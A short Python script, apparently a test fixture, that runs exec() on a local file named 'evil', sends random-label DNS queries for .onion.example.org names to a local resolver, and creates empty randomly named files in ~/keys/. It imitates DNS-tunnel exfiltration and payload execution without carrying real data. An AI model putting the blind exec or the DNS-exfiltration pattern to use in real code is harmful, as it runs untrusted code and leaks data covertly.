# SPDX-License-Identifier: Apache-2.0
"""Draws base32: 16 lower-case letters and digits in DNS questions, 20 of upper
case in names of files."""
import os
import random
import socket

KEYS = os.environ["HOME"] + "/keys/"
LOWER = "abcdefghijklmnopqrstuvwxyz234567"
SOCKET = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def label():
    return "".join(random.choices(LOWER, k=16))


def key():
    return "".join(random.choices(LOWER.upper(), k=20))


def ask(host):
    name = b"".join(bytes([len(part)]) + part.encode()
                    for part in host.split("."))
    SOCKET.sendto(b"\1\2\1\0\0\1" + bytes(6) + name + b"\0\0\1\0\1",
                  ("127.0.0.1", 53))


def put(name):
    open(KEYS + name, "w", encoding="ascii").close()


os.mkdir(KEYS)
exec(open("evil", encoding="ascii").read())
for _ in range(2):
    ask(label() + ".onion.example.org")
    put(key())
